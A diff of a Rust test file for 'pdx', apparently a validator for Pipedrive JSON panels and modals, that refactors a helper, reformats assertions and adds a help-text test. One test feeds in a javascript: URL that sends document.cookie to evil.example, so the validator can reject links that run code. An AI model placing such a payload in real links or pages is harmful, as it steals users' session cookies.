@@ -28,6 +28,11 @@ fn file(name: &str, text: &str) -> PathBuf {
     path
 }
 
+/// One of Pipedrive's sample files, read.
+fn sample_json(name: &str) -> Value {
+    serde_json::from_str(&std::fs::read_to_string(sample(name)).expect("read")).expect("json")
+}
+
 fn json_file(name: &str, value: &Value) -> PathBuf {
     file(
         name,
@@ -220,9 +225,7 @@ fn warnings_pass_unless_denied() {
 
 #[test]
 fn bad_modal_schema_names_the_offending_option() {
-    let mut schema: Value =
-        serde_json::from_str(&std::fs::read_to_string(sample("todo-modal.json")).expect("read"))
-            .expect("json");
+    let mut schema: Value = sample_json("todo-modal.json");
     schema["properties"]["actions"]["properties"]["submit_action"]["options"]["handler"] =
         json!("submit");
     let bad = json_file("modal.json", &schema);
@@ -522,7 +525,11 @@ fn panel_error_bodies_are_recognised_and_checked_against_the_status() {
         stdout(&o)
     );
     let o = run(Some("302"), &data);
-    assert!(stdout(&o).contains("/: status 302: a panel endpoint answers"), "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains("/: status 302: a panel endpoint answers"),
+        "{}",
+        stdout(&o)
+    );
     assert_eq!(code(&run(Some("42"), &data)), 2, "not an HTTP status");
     // An error body is checked as one: a missing title, an unknown key.
     let bad = json_file("bad-error.json", &json!({ "error": { "code": 3 } }));
@@ -577,9 +584,7 @@ fn links_that_run_code_are_errors() {
     }
     assert!(!out.contains("/settings/url"), "{out}");
 
-    let mut schema: Value =
-        serde_json::from_str(&std::fs::read_to_string(sample("todo-modal.json")).expect("read"))
-            .expect("json");
+    let mut schema: Value = sample_json("todo-modal.json");
     let options = &mut schema["properties"]["actions"]["properties"]["submit_action"]["options"];
     options["handler"] = json!("open-url");
     options["url"] = json!("\u{1}javascript:fetch('https://evil.example/'+document.cookie)");
@@ -599,14 +604,15 @@ fn links_that_run_code_are_errors() {
 /// A warning of the `--against` file is printed once, under that file's name, not under each response's.
 #[test]
 fn warnings_of_the_against_file_are_printed_under_its_name() {
-    let mut schema: Value =
-        serde_json::from_str(&std::fs::read_to_string(sample("todo-modal.json")).expect("read"))
-            .expect("json");
+    let mut schema: Value = sample_json("todo-modal.json");
     // `url` with a `request` handler: a warning of the schema itself.
     schema["properties"]["actions"]["properties"]["submit_action"]["options"]["url"] =
         json!("https://app.example.com/save");
     let schema = json_file("schema.json", &schema);
-    let one = json_file("one.json", &json!({ "data": { "blocks": {}, "actions": {} } }));
+    let one = json_file(
+        "one.json",
+        &json!({ "data": { "blocks": {}, "actions": {} } }),
+    );
     let two = json_file("two.json", &json!({ "data": { "blocks": {} } }));
     let o = pdx([
         "validate",
@@ -627,7 +633,11 @@ fn warnings_of_the_against_file_are_printed_under_its_name() {
         )),
         "{out}"
     );
-    assert!(stderr(&o).contains("2 files checked: 2 valid, 0 invalid; 0 errors, 1 warning"), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("2 files checked: 2 valid, 0 invalid; 0 errors, 1 warning"),
+        "{}",
+        stderr(&o)
+    );
     let denied = pdx([
         "validate",
         "--deny-warnings",
@@ -717,9 +727,7 @@ fn two_hundred_thousand_invalid_items_are_checked_under_one_gigabyte() {
         stderr(&o)
     );
     let report: Value = serde_json::from_str(&stdout(&o)).expect("one JSON report");
-    let problems = report["files"][0]["problems"]
-        .as_array()
-        .expect("problems");
+    let problems = report["files"][0]["problems"].as_array().expect("problems");
     assert_eq!(problems.len(), 101, "the cap, then the count of the rest");
     assert_eq!(
         problems[0]["pointer"],
@@ -728,6 +736,37 @@ fn two_hundred_thousand_invalid_items_are_checked_under_one_gigabyte() {
     let counted = problems[100]["message"].as_str().unwrap_or_default();
     assert_eq!(
         counted,
-        format!("… and {} more problems (pdx reports the first 100)", ITEMS - 100)
+        format!(
+            "… and {} more problems (pdx reports the first 100)",
+            ITEMS - 100
+        )
     );
+}
+
+/// Each subcommand's help names the Pipedrive page of its format.
+#[test]
+fn help_cites_pipedrive_pages() {
+    for (sub, page) in [
+        (
+            "panel-structure",
+            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
+        ),
+        (
+            "panel-response",
+            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
+        ),
+        (
+            "modal-schema",
+            "https://pipedrive.readme.io/docs/json-modals-component-library",
+        ),
+        (
+            "modal-response",
+            "https://pipedrive.readme.io/docs/json-modals-user-interaction-handling",
+        ),
+    ] {
+        let o = pdx(["validate", sub, "--help"]);
+        assert_eq!(code(&o), 0);
+        assert!(stdout(&o).contains(page), "{sub}: {}", stdout(&o));
+    }
+    assert!(stdout(&pdx(["validate", "panel-response", "--help"])).contains("--status <CODE>"));
 }
